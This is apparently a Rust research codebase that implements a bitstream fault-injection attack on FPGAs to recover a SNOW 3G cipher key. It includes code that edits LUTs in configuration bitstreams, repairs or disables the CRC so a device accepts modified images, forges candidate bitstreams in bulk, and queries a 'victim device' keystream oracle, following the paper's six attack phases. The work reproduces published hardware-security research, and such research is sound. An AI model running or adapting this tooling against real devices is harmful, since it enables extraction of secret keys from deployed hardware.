        .zip(scanner.scan_grouped(&payload))
        .map(|(shape, hits)| (shape.name, hits.len()))
        .collect();

    // XOR-half scans (parallel; the predicate is stateless).
    let unconstrained = scanner.scan_halves(&payload, 0..payload.len(), xor_half_predicate);
    let window = constrained_window.unwrap_or(0..payload.len());
    let constrained = scanner.scan_halves(&payload, window, xor_half_predicate);

    // Prune the z-path XORs: replace each candidate's XOR half with
    // constant 0 and look for the stuck-bit signature.
    let mut z_path: Vec<ZPathLut> = Vec::new();
    let mut live = 0usize;
    for hit in &unconstrained {
        let halves = [hit.init.o5(), hit.init.o6_fractured()];
        for half in 0..2u8 {
            if halves[half as usize].as_xor_pair().is_none() {
                continue;
            }
            let mut session = EditSession::new(golden, d);
            session.write_half(hit, half, TruthTable::zero(5));
            let z = oracle
                .query(&session.finish(CrcStrategy::Recompute), words)
                .map_err(AttackError::from)?;
            if z == golden_keystream {
                continue; // dead bytes
            }
            live += 1;
            if let Some(bit) = crate::attack::stuck_bit(&z, &golden_keystream) {
                z_path.push(ZPathLut { hit: hit.clone(), bit, pair: None });
            }
        }
    }

    let remaining = live.saturating_sub(z_path.len());
    Ok(CountermeasureReport {
        candidate_counts,
        xor_half_hits_unconstrained: unconstrained.len(),
        xor_half_hits_constrained: constrained.len(),
        z_path_pruned: z_path.len(),
        remaining,
        search_bits: complexity::log2_binomial(remaining as u64, 32),
        oracle_loads: oracle.stats().attempts as usize,
    })
}
