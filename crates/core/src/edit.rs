//! Bitstream patching: writing faulted LUT functions at search hits.
//!
//! A [`crate::findlut::LutHit`] records the input permutation
//! under which a candidate matched; any replacement function must be
//! stored under the *same* permutation so the LUT's pins keep their
//! meaning. After editing, the configuration CRC is repaired —
//! either recomputed, or disabled by zeroing the CRC packet as in
//! Section V-B of the paper.

use boolfn::{DualOutputInit, Permutation, TruthTable};

use bitstream::{codec, Bitstream};

use crate::findlut::LutHit;

/// How to keep the device accepting a modified bitstream.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CrcStrategy {
    /// Recompute and patch the stored CRC value.
    #[default]
    Recompute,
    /// Zero out the CRC packet (the paper's approach).
    Disable,
}

/// A bitstream being edited: tracks the FDRI payload region and
/// repairs the CRC on [`EditSession::finish`].
#[derive(Debug, Clone)]
pub struct EditSession {
    bitstream: Bitstream,
    data_start: usize,
    d: usize,
}

impl EditSession {
    /// Starts editing a copy of `bitstream`.
    ///
    /// # Panics
    ///
    /// Panics if the bitstream has no FDRI payload.
    #[must_use]
    pub fn new(bitstream: &Bitstream, d: usize) -> Self {
        let range = bitstream.fdri_data_range().expect("bitstream has an FDRI payload");
        Self { bitstream: bitstream.clone(), data_start: range.start, d }
    }

    /// The payload-relative base offset used by search hits.
    #[must_use]
    pub fn data_start(&self) -> usize {
        self.data_start
    }

    /// Writes `function` (a 6-variable table) at `hit`, permuted the
    /// same way the original content was stored.
    pub fn write_function(&mut self, hit: &LutHit, function: TruthTable) {
        let stored = function.extend(6).permute(&extend_perm(&hit.perm));
        self.write_init(hit, DualOutputInit::from_single(stored));
    }

    /// Writes a raw INIT value at `hit`.
    pub fn write_init(&mut self, hit: &LutHit, init: DualOutputInit) {
        let data = &mut self.bitstream.as_mut_bytes()[self.data_start..];
        codec::write_lut(data, hit.location(self.d), init);
    }

    /// Replaces a single half of the INIT at `hit`: `half` 0 is the
    /// `O5` (low) half, 1 the `O6` (high) half. The 5-variable
    /// replacement is stored as-is (pin order preserved by the
    /// caller).
    ///
    /// # Panics
    ///
    /// Panics if `half` is not 0 or 1.
    pub fn write_half(&mut self, hit: &LutHit, half: u8, function: TruthTable) {
        assert!(half < 2, "half must be 0 (O5) or 1 (O6)");
        let data = &self.bitstream.as_bytes()[self.data_start..];
        let current = codec::read_lut(data, hit.location(self.d));
        let bits = function.extend(5).bits() & 0xffff_ffff;
        let new = if half == 0 {
            (current.init() & 0xffff_ffff_0000_0000) | bits
        } else {
            (current.init() & 0x0000_0000_ffff_ffff) | (bits << 32)
        };
        self.write_init(hit, DualOutputInit::new(new));
    }

    /// Reads the INIT currently stored at `hit`.
    #[must_use]
    pub fn read_init(&self, hit: &LutHit) -> DualOutputInit {
        let data = &self.bitstream.as_bytes()[self.data_start..];
        codec::read_lut(data, hit.location(self.d))
    }

    /// Finalizes the edit, repairing the CRC.
    #[must_use]
    pub fn finish(mut self, crc: CrcStrategy) -> Bitstream {
        match crc {
            CrcStrategy::Recompute => {
                let ok = self.bitstream.recompute_crc();
                debug_assert!(ok, "bitstream had a CRC packet to patch");
            }
            CrcStrategy::Disable => {
                self.bitstream.disable_crc();
            }
        }
        self.bitstream
    }
}

/// Extends a `k ≤ 6` permutation to exactly 6 pins (identity on the
/// rest).
#[must_use]
pub fn extend_perm(p: &Permutation) -> Permutation {
    if p.len() == 6 {
        return *p;
    }
    let mut full = [0u8; 6];
    for (j, &x) in p.as_slice().iter().enumerate() {
        full[j] = x;
    }
    for (j, slot) in full.iter_mut().enumerate().skip(p.len()) {
        *slot = j as u8;
    }
    Permutation::from_slice(&full).expect("valid permutation")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::findlut::Scanner;
    use bitstream::{BitstreamBuilder, FrameData, LutLocation, SubVectorOrder, FRAME_BYTES};
    use boolfn::expr::var;

    fn find_lut(data: &[u8], f: TruthTable) -> Vec<LutHit> {
        let scanner = Scanner::builder().stride(FRAME_BYTES).candidate(f).build().unwrap();
        scanner.scan(data).into_iter().map(|h| h.hit).collect()
    }

    fn sample_bitstream_with(f: TruthTable, l: usize) -> Bitstream {
        let mut frames = FrameData::new(8);
        codec::write_lut(
            frames.as_mut_bytes(),
            LutLocation { l, d: FRAME_BYTES, order: SubVectorOrder::SliceL },
            DualOutputInit::from_single(f.extend(6)),
        );
        BitstreamBuilder::new(frames).build()
    }

    #[test]
    fn edit_at_hit_then_reparse() {
        let f2 = ((var(1) ^ var(2) ^ var(3)) & var(4) & var(5) & !var(6)).truth_table(6);
        let bs = sample_bitstream_with(f2, 64);
        let range = bs.fdri_data_range().unwrap();
        let hits = find_lut(&bs.as_bytes()[range], f2);
        let hit = hits.iter().find(|h| h.l == 64).expect("hit at plant");

        let mut session = EditSession::new(&bs, FRAME_BYTES);
        session.write_function(hit, TruthTable::zero(6));
        let edited = session.finish(CrcStrategy::Recompute);
        let cfg = edited.parse().expect("CRC repaired");
        assert!(cfg.crc_checked);
        // The LUT now stores constant 0.
        let data_range = edited.fdri_data_range().unwrap();
        let init = codec::read_lut(
            &edited.as_bytes()[data_range],
            LutLocation { l: 64, d: FRAME_BYTES, order: SubVectorOrder::SliceL },
        );
        assert_eq!(init.init(), 0);
    }

    #[test]
    fn disable_strategy_removes_crc() {
        let f = (var(1) & var(2)).truth_table(6);
        let bs = sample_bitstream_with(f, 0);
        let range = bs.fdri_data_range().unwrap();
        let hits = find_lut(&bs.as_bytes()[range], f);
        let mut session = EditSession::new(&bs, FRAME_BYTES);
        session.write_function(&hits[0], TruthTable::one(6));
        let edited = session.finish(CrcStrategy::Disable);
        let cfg = edited.parse().expect("parses");
        assert!(!cfg.crc_checked);
    }

    #[test]
    fn permuted_write_respects_pin_roles() {
        // Store f2 under a scrambled permutation, then write the α₂
        // variant; the stored bytes must equal variant.permute(same).
        let f2 = ((var(1) ^ var(2) ^ var(3)) & var(4) & var(5) & !var(6)).truth_table(6);
        let p = Permutation::from_slice(&[3, 1, 5, 0, 2, 4]).unwrap();
        let stored = f2.permute(&p);
        let bs = sample_bitstream_with(stored, 120);
        let range = bs.fdri_data_range().unwrap();
        let hits = find_lut(&bs.as_bytes()[range], f2);
        let hit = hits.iter().find(|h| h.l == 120).expect("found");

        let variant = (var(3) & var(4) & var(5) & !var(6)).truth_table(6);
        let mut session = EditSession::new(&bs, FRAME_BYTES);
        session.write_function(hit, variant);
        let got = session.read_init(hit);
        assert_eq!(got.o6(), variant.permute(&hit.perm));
    }

    #[test]
    fn half_writes_preserve_other_half() {
        let a = (var(1) | var(2)).truth_table(5);
        let b = (var(3) & var(4)).truth_table(5);
        let mut frames = FrameData::new(8);
        let loc = LutLocation { l: 10, d: FRAME_BYTES, order: SubVectorOrder::SliceM };
        codec::write_lut(frames.as_mut_bytes(), loc, DualOutputInit::from_pair(a, b));
        let bs = BitstreamBuilder::new(frames).build();

        let mut session = EditSession::new(&bs, FRAME_BYTES);
        let hit = LutHit {
            l: 10,
            order: SubVectorOrder::SliceM,
            perm: Permutation::identity(6),
            init: session.read_init(&LutHit {
                l: 10,
                order: SubVectorOrder::SliceM,
                perm: Permutation::identity(6),
                init: DualOutputInit::new(0),
            }),
        };
        let repl = (!var(1) & var(2)).truth_table(5);
        session.write_half(&hit, 0, repl);
        let got = session.read_init(&hit);
        assert_eq!(got.o5(), repl);
        assert_eq!(got.o6_fractured(), b, "O6 half untouched");
    }
}
