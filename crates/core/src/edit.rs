//! Bitstream patching: writing faulted LUT functions at search hits.
//!
//! A [`crate::findlut::LutHit`] records the input permutation
//! under which a candidate matched; any replacement function must be
//! stored under the *same* permutation so the LUT's pins keep their
//! meaning. After editing, the configuration CRC is repaired —
//! either recomputed, or disabled by zeroing the CRC packet as in
//! Section V-B of the paper.
//!
//! Two session types share that contract. [`EditSession`] is the
//! straightforward one: clone, edit, re-walk the whole packet stream
//! to recompute the CRC. [`GoldenForge`] + [`ForgeSession`] is the
//! candidate fast path for attacks that forge thousands of one-LUT
//! variants of the *same* golden image: the forge walks the golden
//! stream once, caches where the CRC lives and how many register
//! writes feed it, and then repairs each candidate's CRC from the
//! byte *delta* alone. The configuration CRC is a linear feedback
//! shift register, hence linear over GF(2) in (state, fed bits):
//! `crc(golden ⊕ δ) = crc(golden) ⊕ L(δ)`, where `L` advances a
//! 32-bit delta state through precomputed powers of the one-update
//! transition matrix. A candidate edit costs one image clone plus
//! O(edited words × log stream) XORs instead of a full re-walk —
//! byte-identical to the slow path, which the test suite pins.

use boolfn::{DualOutputInit, Permutation, TruthTable};

use bitstream::{codec, Bitstream, DeltaCrc};

use crate::findlut::LutHit;

/// How to keep the device accepting a modified bitstream.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CrcStrategy {
    /// Recompute and patch the stored CRC value.
    #[default]
    Recompute,
    /// Zero out the CRC packet (the paper's approach).
    Disable,
}

/// A bitstream being edited: tracks the FDRI payload region and
/// repairs the CRC on [`EditSession::finish`].
#[derive(Debug, Clone)]
pub struct EditSession {
    bitstream: Bitstream,
    data_start: usize,
    d: usize,
}

impl EditSession {
    /// Starts editing a copy of `bitstream`.
    ///
    /// # Panics
    ///
    /// Panics if the bitstream has no FDRI payload.
    #[must_use]
    pub fn new(bitstream: &Bitstream, d: usize) -> Self {
        let range = bitstream.fdri_data_range().expect("bitstream has an FDRI payload");
        Self { bitstream: bitstream.clone(), data_start: range.start, d }
    }

    /// The payload-relative base offset used by search hits.
    #[must_use]
    pub fn data_start(&self) -> usize {
        self.data_start
    }

    /// Writes `function` (a 6-variable table) at `hit`, permuted the
    /// same way the original content was stored.
    pub fn write_function(&mut self, hit: &LutHit, function: TruthTable) {
        let stored = function.extend(6).permute(&extend_perm(&hit.perm));
        self.write_init(hit, DualOutputInit::from_single(stored));
    }

    /// Writes a raw INIT value at `hit`.
    pub fn write_init(&mut self, hit: &LutHit, init: DualOutputInit) {
        let data = &mut self.bitstream.as_mut_bytes()[self.data_start..];
        codec::write_lut(data, hit.location(self.d), init);
    }

    /// Replaces a single half of the INIT at `hit`: `half` 0 is the
    /// `O5` (low) half, 1 the `O6` (high) half. The 5-variable
    /// replacement is stored as-is (pin order preserved by the
    /// caller).
    ///
    /// # Panics
    ///
    /// Panics if `half` is not 0 or 1.
    pub fn write_half(&mut self, hit: &LutHit, half: u8, function: TruthTable) {
        assert!(half < 2, "half must be 0 (O5) or 1 (O6)");
        let data = &self.bitstream.as_bytes()[self.data_start..];
        let current = codec::read_lut(data, hit.location(self.d));
        let bits = function.extend(5).bits() & 0xffff_ffff;
        let new = if half == 0 {
            (current.init() & 0xffff_ffff_0000_0000) | bits
        } else {
            (current.init() & 0x0000_0000_ffff_ffff) | (bits << 32)
        };
        self.write_init(hit, DualOutputInit::new(new));
    }

    /// Reads the INIT currently stored at `hit`.
    #[must_use]
    pub fn read_init(&self, hit: &LutHit) -> DualOutputInit {
        let data = &self.bitstream.as_bytes()[self.data_start..];
        codec::read_lut(data, hit.location(self.d))
    }

    /// Finalizes the edit, repairing the CRC.
    #[must_use]
    pub fn finish(mut self, crc: CrcStrategy) -> Bitstream {
        match crc {
            CrcStrategy::Recompute => {
                let ok = self.bitstream.recompute_crc();
                debug_assert!(ok, "bitstream had a CRC packet to patch");
            }
            CrcStrategy::Disable => {
                self.bitstream.disable_crc();
            }
        }
        self.bitstream
    }
}

/// A cached analysis of one golden bitstream, from which thousands of
/// one-LUT candidate variants can be forged without re-walking the
/// packet stream per candidate.
///
/// Construction performs a single [`Bitstream::recompute_crc`]-shaped
/// walk; each [`GoldenForge::session`] then clones the golden bytes
/// and repairs the CRC incrementally from the edit delta (see the
/// module docs for the linearity argument). On any stream structure
/// the delta model does not cover, sessions transparently fall back
/// to the slow full re-walk — output bytes are identical either way.
#[derive(Debug, Clone)]
pub struct GoldenForge {
    golden: Bitstream,
    data_start: usize,
    d: usize,
    delta: Option<DeltaCrc>,
}

impl GoldenForge {
    /// Analyzes `bitstream` once for fast candidate forging.
    ///
    /// # Panics
    ///
    /// Panics if the bitstream has no FDRI payload (same contract as
    /// [`EditSession::new`]).
    #[must_use]
    pub fn new(bitstream: &Bitstream, d: usize) -> Self {
        let range = bitstream.fdri_data_range().expect("bitstream has an FDRI payload");
        let delta = DeltaCrc::analyze(bitstream, &range);
        Self { golden: bitstream.clone(), data_start: range.start, d, delta }
    }

    /// The golden bitstream this forge derives candidates from.
    #[must_use]
    pub fn golden(&self) -> &Bitstream {
        &self.golden
    }

    /// The payload-relative base offset used by search hits.
    #[must_use]
    pub fn data_start(&self) -> usize {
        self.data_start
    }

    /// Whether the delta fast path is active (`false` means every
    /// session falls back to the full CRC re-walk).
    #[must_use]
    pub fn is_fast(&self) -> bool {
        self.delta.is_some()
    }

    /// Starts forging one candidate: a fresh copy of the golden image
    /// with the same write API as [`EditSession`].
    #[must_use]
    pub fn session(&self) -> ForgeSession<'_> {
        ForgeSession { forge: self, bitstream: self.golden.clone(), touched: Vec::new() }
    }
}

/// One candidate being forged from a [`GoldenForge`]. Mirrors the
/// [`EditSession`] API; [`ForgeSession::finish`] repairs the CRC from
/// the accumulated edit delta instead of re-walking the stream.
#[derive(Debug)]
pub struct ForgeSession<'f> {
    forge: &'f GoldenForge,
    bitstream: Bitstream,
    /// Payload word indices the edits may have altered.
    touched: Vec<usize>,
}

impl ForgeSession<'_> {
    /// Writes `function` (a 6-variable table) at `hit`, permuted the
    /// same way the original content was stored.
    pub fn write_function(&mut self, hit: &LutHit, function: TruthTable) {
        let stored = function.extend(6).permute(&extend_perm(&hit.perm));
        self.write_init(hit, DualOutputInit::from_single(stored));
    }

    /// Writes a raw INIT value at `hit`.
    pub fn write_init(&mut self, hit: &LutHit, init: DualOutputInit) {
        let loc = hit.location(self.forge.d);
        for j in 0..4 {
            let b = loc.l + j * loc.d;
            self.touched.push(b / 4);
            self.touched.push((b + 1) / 4);
        }
        let data = &mut self.bitstream.as_mut_bytes()[self.forge.data_start..];
        codec::write_lut(data, loc, init);
    }

    /// Replaces a single half of the INIT at `hit`: `half` 0 is the
    /// `O5` (low) half, 1 the `O6` (high) half.
    ///
    /// # Panics
    ///
    /// Panics if `half` is not 0 or 1.
    pub fn write_half(&mut self, hit: &LutHit, half: u8, function: TruthTable) {
        assert!(half < 2, "half must be 0 (O5) or 1 (O6)");
        let current = self.read_init(hit);
        let bits = function.extend(5).bits() & 0xffff_ffff;
        let new = if half == 0 {
            (current.init() & 0xffff_ffff_0000_0000) | bits
        } else {
            (current.init() & 0x0000_0000_ffff_ffff) | (bits << 32)
        };
        self.write_init(hit, DualOutputInit::new(new));
    }

    /// Reads the INIT currently stored at `hit`.
    #[must_use]
    pub fn read_init(&self, hit: &LutHit) -> DualOutputInit {
        let data = &self.bitstream.as_bytes()[self.forge.data_start..];
        codec::read_lut(data, hit.location(self.forge.d))
    }

    /// Finalizes the candidate, repairing the CRC. Byte-identical to
    /// [`EditSession::finish`] on the same sequence of writes.
    #[must_use]
    pub fn finish(mut self, crc: CrcStrategy) -> Bitstream {
        match crc {
            CrcStrategy::Recompute => match &self.forge.delta {
                Some(delta) => {
                    let mut words = core::mem::take(&mut self.touched);
                    words.sort_unstable();
                    words.dedup();
                    delta.patch(
                        self.forge.golden.as_bytes(),
                        self.bitstream.as_mut_bytes(),
                        self.forge.data_start,
                        &words,
                    );
                }
                None => {
                    let ok = self.bitstream.recompute_crc();
                    debug_assert!(ok, "bitstream had a CRC packet to patch");
                }
            },
            CrcStrategy::Disable => {
                self.bitstream.disable_crc();
            }
        }
        self.bitstream
    }
}

/// Extends a `k ≤ 6` permutation to exactly 6 pins (identity on the
/// rest).
#[must_use]
pub fn extend_perm(p: &Permutation) -> Permutation {
    if p.len() == 6 {
        return *p;
    }
    let mut full = [0u8; 6];
    for (j, &x) in p.as_slice().iter().enumerate() {
        full[j] = x;
    }
    for (j, slot) in full.iter_mut().enumerate().skip(p.len()) {
        *slot = j as u8;
    }
    Permutation::from_slice(&full).expect("valid permutation")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::findlut::Scanner;
    use bitstream::{BitstreamBuilder, FrameData, LutLocation, SubVectorOrder, FRAME_BYTES};
    use boolfn::expr::var;

    fn find_lut(data: &[u8], f: TruthTable) -> Vec<LutHit> {
        let scanner = Scanner::builder().stride(FRAME_BYTES).candidate(f).build().unwrap();
        scanner.scan(data).into_iter().map(|h| h.hit).collect()
    }

    fn sample_bitstream_with(f: TruthTable, l: usize) -> Bitstream {
        let mut frames = FrameData::new(8);
        codec::write_lut(
            frames.as_mut_bytes(),
            LutLocation { l, d: FRAME_BYTES, order: SubVectorOrder::SliceL },
            DualOutputInit::from_single(f.extend(6)),
        );
        BitstreamBuilder::new(frames).build()
    }

    #[test]
    fn edit_at_hit_then_reparse() {
        let f2 = ((var(1) ^ var(2) ^ var(3)) & var(4) & var(5) & !var(6)).truth_table(6);
        let bs = sample_bitstream_with(f2, 64);
        let range = bs.fdri_data_range().unwrap();
        let hits = find_lut(&bs.as_bytes()[range], f2);
        let hit = hits.iter().find(|h| h.l == 64).expect("hit at plant");

        let mut session = EditSession::new(&bs, FRAME_BYTES);
        session.write_function(hit, TruthTable::zero(6));
        let edited = session.finish(CrcStrategy::Recompute);
        let cfg = edited.parse().expect("CRC repaired");
        assert!(cfg.crc_checked);
        // The LUT now stores constant 0.
        let data_range = edited.fdri_data_range().unwrap();
        let init = codec::read_lut(
            &edited.as_bytes()[data_range],
            LutLocation { l: 64, d: FRAME_BYTES, order: SubVectorOrder::SliceL },
        );
        assert_eq!(init.init(), 0);
    }

    #[test]
    fn disable_strategy_removes_crc() {
        let f = (var(1) & var(2)).truth_table(6);
        let bs = sample_bitstream_with(f, 0);
        let range = bs.fdri_data_range().unwrap();
        let hits = find_lut(&bs.as_bytes()[range], f);
        let mut session = EditSession::new(&bs, FRAME_BYTES);
        session.write_function(&hits[0], TruthTable::one(6));
        let edited = session.finish(CrcStrategy::Disable);
        let cfg = edited.parse().expect("parses");
        assert!(!cfg.crc_checked);
    }

    #[test]
    fn permuted_write_respects_pin_roles() {
        // Store f2 under a scrambled permutation, then write the α₂
        // variant; the stored bytes must equal variant.permute(same).
        let f2 = ((var(1) ^ var(2) ^ var(3)) & var(4) & var(5) & !var(6)).truth_table(6);
        let p = Permutation::from_slice(&[3, 1, 5, 0, 2, 4]).unwrap();
        let stored = f2.permute(&p);
        let bs = sample_bitstream_with(stored, 120);
        let range = bs.fdri_data_range().unwrap();
        let hits = find_lut(&bs.as_bytes()[range], f2);
        let hit = hits.iter().find(|h| h.l == 120).expect("found");

        let variant = (var(3) & var(4) & var(5) & !var(6)).truth_table(6);
        let mut session = EditSession::new(&bs, FRAME_BYTES);
        session.write_function(hit, variant);
        let got = session.read_init(hit);
        assert_eq!(got.o6(), variant.permute(&hit.perm));
    }

    #[test]
    fn half_writes_preserve_other_half() {
        let a = (var(1) | var(2)).truth_table(5);
        let b = (var(3) & var(4)).truth_table(5);
        let mut frames = FrameData::new(8);
        let loc = LutLocation { l: 10, d: FRAME_BYTES, order: SubVectorOrder::SliceM };
        codec::write_lut(frames.as_mut_bytes(), loc, DualOutputInit::from_pair(a, b));
        let bs = BitstreamBuilder::new(frames).build();

        let mut session = EditSession::new(&bs, FRAME_BYTES);
        let hit = LutHit {
            l: 10,
            order: SubVectorOrder::SliceM,
            perm: Permutation::identity(6),
            init: session.read_init(&LutHit {
                l: 10,
                order: SubVectorOrder::SliceM,
                perm: Permutation::identity(6),
                init: DualOutputInit::new(0),
            }),
        };
        let repl = (!var(1) & var(2)).truth_table(5);
        session.write_half(&hit, 0, repl);
        let got = session.read_init(&hit);
        assert_eq!(got.o5(), repl);
        assert_eq!(got.o6_fractured(), b, "O6 half untouched");
    }

    /// A raw hit addressing byte `l` directly (identity permutation).
    fn raw_hit(l: usize, order: SubVectorOrder) -> LutHit {
        LutHit { l, order, perm: Permutation::identity(6), init: DualOutputInit::new(0) }
    }

    #[test]
    fn forge_single_write_matches_slow_path() {
        let f2 = ((var(1) ^ var(2) ^ var(3)) & var(4) & var(5) & !var(6)).truth_table(6);
        let bs = sample_bitstream_with(f2, 64);
        let range = bs.fdri_data_range().unwrap();
        let hits = find_lut(&bs.as_bytes()[range], f2);
        let hit = hits.iter().find(|h| h.l == 64).expect("hit at plant");

        let forge = GoldenForge::new(&bs, FRAME_BYTES);
        assert!(forge.is_fast(), "builder output takes the delta path");

        let mut slow = EditSession::new(&bs, FRAME_BYTES);
        slow.write_function(hit, TruthTable::zero(6));
        let want = slow.finish(CrcStrategy::Recompute);

        let mut fast = forge.session();
        fast.write_function(hit, TruthTable::zero(6));
        let got = fast.finish(CrcStrategy::Recompute);

        assert_eq!(got.as_bytes(), want.as_bytes(), "forge must be byte-identical");
        assert!(got.parse().expect("parses").crc_checked);
    }

    #[test]
    fn forge_multi_write_and_half_write_match_slow_path() {
        let f2 = ((var(1) ^ var(2) ^ var(3)) & var(4) & var(5) & !var(6)).truth_table(6);
        let bs = sample_bitstream_with(f2, 64);
        let a = raw_hit(64, SubVectorOrder::SliceL);
        let b = raw_hit(301, SubVectorOrder::SliceM);
        let half = (!var(1) & var(2)).truth_table(5);

        let mut slow = EditSession::new(&bs, FRAME_BYTES);
        slow.write_init(&a, DualOutputInit::new(0xDEAD_BEEF_0BAD_F00D));
        slow.write_init(&b, DualOutputInit::new(0x0123_4567_89AB_CDEF));
        slow.write_half(&b, 1, half);
        let want = slow.finish(CrcStrategy::Recompute);

        let forge = GoldenForge::new(&bs, FRAME_BYTES);
        let mut fast = forge.session();
        fast.write_init(&a, DualOutputInit::new(0xDEAD_BEEF_0BAD_F00D));
        fast.write_init(&b, DualOutputInit::new(0x0123_4567_89AB_CDEF));
        fast.write_half(&b, 1, half);
        assert_eq!(fast.read_init(&b).o6_fractured(), half);
        let got = fast.finish(CrcStrategy::Recompute);

        assert_eq!(got.as_bytes(), want.as_bytes());
        assert!(got.parse().expect("parses").crc_checked);
    }

    #[test]
    fn forge_disable_and_no_op_match_slow_path() {
        let f = (var(1) & var(2)).truth_table(6);
        let bs = sample_bitstream_with(f, 0);
        let forge = GoldenForge::new(&bs, FRAME_BYTES);

        // Untouched candidate: both paths just re-store the computed
        // CRC.
        let want = EditSession::new(&bs, FRAME_BYTES).finish(CrcStrategy::Recompute);
        let got = forge.session().finish(CrcStrategy::Recompute);
        assert_eq!(got.as_bytes(), want.as_bytes());

        // Disable delegates to the same zeroing walk.
        let hit = raw_hit(0, SubVectorOrder::SliceL);
        let mut slow = EditSession::new(&bs, FRAME_BYTES);
        slow.write_function(&hit, TruthTable::one(6));
        let want = slow.finish(CrcStrategy::Disable);
        let mut fast = forge.session();
        fast.write_function(&hit, TruthTable::one(6));
        let got = fast.finish(CrcStrategy::Disable);
        assert_eq!(got.as_bytes(), want.as_bytes());
        assert!(!got.parse().expect("parses").crc_checked);
    }
}
