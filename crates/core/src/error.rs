//! The crate-level error type.
//!
//! Every fallible subsystem keeps its own precise error enum
//! ([`CliError`], [`AttackError`], [`OracleError`],
//! [`ScanConfigError`]); [`Error`] unifies them for callers that drive
//! several subsystems and want one `?`-compatible type with intact
//! [`std::error::Error::source`] chains.

use core::fmt;

use crate::attack::AttackError;
use crate::cli::CliError;
use crate::findlut::ScanConfigError;
use crate::oracle::OracleError;
use crate::resilient::ResilienceError;

/// Any error produced by this crate.
#[derive(Debug)]
#[non_exhaustive]
pub enum Error {
    /// A CLI operation failed.
    Cli(CliError),
    /// The attack pipeline aborted.
    Attack(AttackError),
    /// The victim device refused an operation.
    Oracle(OracleError),
    /// A scan was misconfigured.
    Config(ScanConfigError),
    /// The resilience layer gave up (budget or retries exhausted).
    Resilience(ResilienceError),
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Error::Cli(e) => write!(f, "cli: {e}"),
            Error::Attack(e) => write!(f, "attack: {e}"),
            Error::Oracle(e) => write!(f, "oracle: {e}"),
            Error::Config(e) => write!(f, "scan config: {e}"),
            Error::Resilience(e) => write!(f, "resilience: {e}"),
        }
    }
}

impl std::error::Error for Error {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            Error::Cli(e) => Some(e),
            Error::Attack(e) => Some(e),
            Error::Oracle(e) => Some(e),
            Error::Config(e) => Some(e),
            Error::Resilience(e) => Some(e),
        }
    }
}

impl From<CliError> for Error {
    fn from(e: CliError) -> Self {
        Error::Cli(e)
    }
}

impl From<AttackError> for Error {
    fn from(e: AttackError) -> Self {
        Error::Attack(e)
    }
}

impl From<OracleError> for Error {
    fn from(e: OracleError) -> Self {
        Error::Oracle(e)
    }
}

impl From<ScanConfigError> for Error {
    fn from(e: ScanConfigError) -> Self {
        Error::Config(e)
    }
}

impl From<ResilienceError> for Error {
    fn from(e: ResilienceError) -> Self {
        Error::Resilience(e)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::error::Error as _;

    #[test]
    fn source_chains_reach_the_leaf() {
        let leaf = ScanConfigError::ZeroStride;
        let top: Error = AttackError::from(leaf).into();
        assert!(matches!(top, Error::Attack(_)));
        // Error -> AttackError -> ScanConfigError.
        let mid = top.source().expect("attack layer");
        let bottom = mid.source().expect("config layer");
        assert_eq!(bottom.to_string(), leaf.to_string());
        assert!(bottom.source().is_none());
    }

    #[test]
    fn conversions_and_display() {
        let e: Error = ScanConfigError::KOutOfRange(9).into();
        assert!(e.to_string().contains("k=9"));
        let e: Error = CliError::NoPayload.into();
        assert!(e.to_string().starts_with("cli:"));
        assert!(e.source().is_some());
    }
}
