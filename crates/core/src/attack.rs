//! The full key-recovery attack of Section VI.
//!
//! Phases (matching the paper's narrative):
//!
//! 1. **Candidate search** — run FINDLUT over the extracted bitstream
//!    for every catalogue shape (the Table II data).
//! 2. **Keystream-path identification** (Section VI-C.1) — for every
//!    `f2` hit, replace the LUT with constant 0 and check the
//!    "i-th keystream bit stuck at 0, all other bits unchanged"
//!    signature; prune overlapping candidates.
//! 3. **Feedback-path hypothesis** (Section VI-C.2) — collect hits of
//!    the feedback shapes, discard those overlapping verified LUTs
//!    and those whose modification does not change the keystream
//!    (dead configuration bytes).
//! 4. **Key-independent configuration** (Section VI-D) — locate the
//!    LFSR load multiplexers (fractured LUT halves of the form
//!    `c ∨ a` / `¬c ∧ a`), identify the control pin structurally,
//!    inject `β` (load all-0) together with `α₁` (v = 0 on the
//!    feedback path) and compare the keystream against the
//!    key-independent reference (Table III) that the attacker
//!    computes with the public software model.
//! 5. **Pair disambiguation** (Section VI-D.1) — two keystream
//!    computations decide, for every keystream-path LUT, which two
//!    inputs feed `v`.
//! 6. **Key extraction** (Section VI-A / VI-D.3) — inject the full
//!    `α` into a fresh copy of the bitstream (load constants
//!    preserved), read 16 keystream words (= LFSR state `S³³`),
//!    reverse the LFSR 33 steps and read the key.

use core::fmt;
use std::collections::HashMap;

use boolfn::TruthTable;

use bitstream::{Bitstream, FRAME_BYTES};
use snow3g::recover::{recover_key, RecoverKeyError, RecoveredSecret};
use snow3g::{FaultSpec, FaultySnow3g, Iv, Key};

use crate::candidates::{Catalogue, Role, Shape};
use crate::edit::{CrcStrategy, EditSession, GoldenForge};
use crate::findlut::{LutHit, ScanConfigError, Scanner};
use crate::oracle::{KeystreamOracle, OracleError};
use crate::resilient::{ResilienceConfig, ResilienceError, ResilientOracle, ResilientStats};
use crate::telemetry::Telemetry;

/// A verified keystream-path LUT (`LUT₁[i]`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ZPathLut {
    /// The bitstream location.
    pub hit: LutHit,
    /// The keystream bit this LUT drives.
    pub bit: u8,
    /// The inputs of `v`, once disambiguated (candidate pin pair).
    pub pair: Option<(u8, u8)>,
}

/// The byte/frame lattice real LUT sites occupy, inferred from the
/// verified keystream-path LUTs (the Section VII-B move of guessing
/// "in which frames LUTs are located" and limiting the search). It
/// prunes misaligned windows over real configuration data that would
/// otherwise look like additional candidates.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SiteLattice {
    /// Byte parity of LUT base offsets (`None` = unconstrained).
    pub(crate) parity: Option<usize>,
    /// Frame-index modulus.
    pub(crate) modulus: usize,
    /// Frame-index residue.
    pub(crate) residue: usize,
    /// Sub-vector stride (bytes per frame).
    pub(crate) d: usize,
    /// Observed sub-vector order per column-group parity
